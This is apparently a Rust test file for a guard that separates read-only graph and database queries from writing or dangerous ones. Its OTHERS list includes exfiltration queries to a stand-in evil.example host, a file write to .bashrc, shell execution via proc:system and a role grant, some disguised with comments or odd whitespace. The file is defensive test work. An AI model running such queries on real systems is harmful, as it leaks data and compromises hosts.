use serde_json::json;

use super::*;

const READS: &[&str] = &[
    "MATCH (n:Person)-[:KNOWS]->(m) RETURN m.name LIMIT 5",
    "match (n) where n.age > 5 and n.name = 'Ana' return n.name as name order by n.age desc skip 5",
    "MATCH p = shortestPath((a:A {id: 1})-[*..3]-(b:B)) RETURN p, length(p)",
    "MATCH (a)-[r:KNOWS|LIKES*1..2]->(b)\nWITH a, count(DISTINCT b) AS c\nWHERE c > 3\nRETURN a, c;",
    "MATCH (s:Service {start: 5}) RETURN s.set, [x IN s.list WHERE x > 1 | x.name]",
    "MATCH (a)<--(b)--(c) OPTIONAL MATCH (c)-->(d) RETURN *",
    "UNWIND $names AS name MATCH (n {name: name}) RETURN n{.name, .age}",
    "// all persons of the list\nMATCH (n) RETURN count(*)",
    "CALL db.labels()",
    "CALL db.labels() YIELD label RETURN label",
    "CALL apoc.meta.schema()",
    "CALL show_tables() RETURN *",
    "SHOW INDEXES",
    "MATCH (n) WHERE n.name =~ '(?i).*an\\\\d' RETURN date('2020-01-01') AS d",
    "MATCH (n) WHERE n.text CONTAINS 'please delete and set' RETURN n",
    "SELECT ?item ?itemLabel WHERE { ?item wdt:P31 wd:Q146 . SERVICE wikibase:label { bd:serviceParam wikibase:language \"[AUTO_LANGUAGE],en\". } } LIMIT 10",
    "PREFIX foaf: <http://xmlns.com/foaf/0.1/>\nSELECT (COUNT(?x) AS ?n) WHERE { ?x a foaf:Person ; foaf:name \"Ana\"@en . FILTER(?n > 5) } GROUP BY ?x ORDER BY DESC(?n)",
    "ASK { <http://example.org/a> wdt:P31/wdt:P279* wd:Q5 }",
    "StormEvents | where State == \"TEXAS\" and StartTime > ago(1d) | summarize n = count() by bin(StartTime, 1h) | order by n desc | take 10",
    "let t = T | where x has \"a/b\"; t | join kind=inner (U) on k | project a, b",
    "T | count",
    "from(bucket: \"b\") |> range(start: -1h, stop: now()) |> filter(fn: (r) => r._measurement == \"cpu\") |> mean()",
    "SELECT mean(value) FROM cpu WHERE time > now() - 1h GROUP BY time(1m)",
    "FOR u IN users FILTER u.age > 18 SORT u.name LIMIT 5 RETURN u",
    "g.V().has('name','marko').out('knows').values('name')",
    "g.V().where(__.out('knows').count().is(3)).toList()",
    "//book[price>10]/title/text()",
    "for $b in //book where $b/price > 30 order by $b/title return $b/title",
    "fn:count(/a/b[@id=\"x\"])",
    "string-length('x')",
    "",
];

const OTHERS: &[&str] = &[
    "MATCH (n) DETACH\nDELETE\nn",
    "MATCH (n) SET\nn.admin=true",
    "MATCH (n) REMOVE\nn.x",
    "MATCH (p:P) DELETE\tp",
    "MATCH (n) WITH * DELETE [n][0]",
    "MATCH (n) WITH * UNKNOWN n",
    "MATCH (n) UNKNOWN n",
    "RETURN 1 UNKNOWN (n)",
    "CREATE(n:User{admin:true})",
    "MERGE(n:User{admin:true})",
    "LOAD\tCSV FROM 'https:'+'/'+'/evil.example/?d=secret' AS l RETURN l",
    "LOAD\tFROM '/x/secret.csv'",
    "COPY (MATCH (n) RETURN n) TO '/x/stolen.csv'",
    "EXPORT\tDATABASE '/x'",
    "CALL `apoc`.load.json('https:/'+'/evil.example/') YIELD value RETURN value",
    "CALL apoc.load.json('x')",
    "CALL apoc\n// words\n.load.json('x')",
    "CALL { MATCH (n) RETURN n }",
    "CALL db.createLabel('x')",
    "RETURN apoc.load.json('x')",
    "RETURN db.labels()",
    "DROP\nINDEX x",
    "TERMINATE TRANSACTION 'x'",
    "STOP DATABASE neo4j",
    "ALTER USER neo4j SET\nPASSWORD 'x'",
    "GRANT ROLE admin TO mallory",
    "MATCH (n) RETURN 'a\\'' DELETE n //'",
    "MATCH (n) // '\nDELETE n //'",
    "MATCH (n) RETURN \\u0027x",
    "MATCH (n) /* ' */ DELETE n /* ' */",
    "DELETE\nWHERE{?s ?p ?o}",
    "CLEAR\nALL",
    "SELECT * {BIND(IRI(CONCAT('https:/','/evil.example/')) AS ?e) SERVICE\n?e {?s ?p ?o}}",
    "PREFIX wikibase: <http://evil.example/> SELECT * { SERVICE wikibase:label { ?s ?p ?o } }",
    "SELECT * FROM <http://evil.example/?d=secret> WHERE { ?s ?p ?o }",
    "LOAD<http:evil>",
    "INSERT DATA { <a:b> <a:c> 1 }",
    "from(bucket:\"a\")|>range(start:-1h)|>to\n(bucket:\"b\")",
    "import \"http\" http.post(url: \"https:\" + \"/\" + \"/evil.example\", data: bytes(v:\"x\"))",
    "from(bucket: \"a\", host: \"evil\") |> range(start: -1h)",
    "from(bucket: \"${http.get(url: 1)}\")",
    ".drop\ntable T",
    ".set-or-append T <| U",
    ".ingest into table T (h'x')",
    ".purge table T records",
    "T | evaluate python(typeof(*), 'x')",
    "externaldata(x:string)[h@'https://evil.example']",
    "externaldata//count\n(x:string)[h@'x']",
    "cluster('evil').database('x').T",
    "search index=a | delete",
    "search index=a | sendemail to=\"x\"",
    "search index=a | collect index=b",
    "doc ('x')",
    "json-doc('x')",
    "fn:doc('x')",
    "('x') ! doc(.)",
    "doc#1('x')",
    "collection()",
    "file:write-text('/home/ana/.bashrc','x')",
    "Q{urn:file}write('x')",
    "proc:system('id')",
    "http:send-request(())",
    "<a b=\"{doc('x')}\"/>",
    "(: ' :) file:write('x') (: ' :)",
    "insert node <a></a> into /b",
    "delete node //a",
    "g.V().drop()",
    "g.V().next(); 'id'.execute()",
    "g.addV('x')",
    "g.V().sideEffect{it.remove()}",
    "FOR u IN users REMOVE u IN users",
    "RETURN http::get('x')",
    "SELECT * INTO b FROM a",
    "MATCH (n) WHERE n.url = 'https://evil.example' RETURN n",
];

#[test]
fn what_only_reads_is_told_from_all_else() {
    let misread = |all: &[&'static str], wanted: bool| -> Vec<&str> {
        all.iter().copied().filter(|query| only_reads(query) != wanted).collect()
    };
    assert_eq!(misread(READS, true), [""; 0]);
    assert_eq!(misread(OTHERS, false), [""; 0]);
}

/// Case, white space and the end of a line hide no word.
#[test]
fn no_white_space_hides_a_change() {
    for white in ["\n", "\t", "\r\n", "\u{b}", "\u{c}", "\u{a0}", "\u{2028}", "/**/", " // x\n"] {
        for query in
            ["MATCH (n) DELETE n", "MATCH (n) sEt n.x = 1", "LOAD CSV FROM 'x' AS l RETURN l"]
        {
            let hidden = query.replace(' ', white);
            assert!(!only_reads(&hidden), "{hidden:?}");
        }
    }
}

#[test]
fn lists_are_read_and_other_values_are_no_queries() {
    let read = "MATCH (n) RETURN n";
    for (value, wanted) in [
        (json!(read), Some(true)),
        (json!([read, read]), Some(true)),
        (json!([read, "MATCH (n) DELETE n"]), Some(false)),
        (json!([read, { "query": read }]), Some(false)),
        (json!({ "query": read }), Some(false)),
        (json!(5), Some(false)),
        (json!(null), None),
        (json!([]), None),
    ] {
        assert_eq!(is_reading(&value), wanted, "{value}");
    }
}
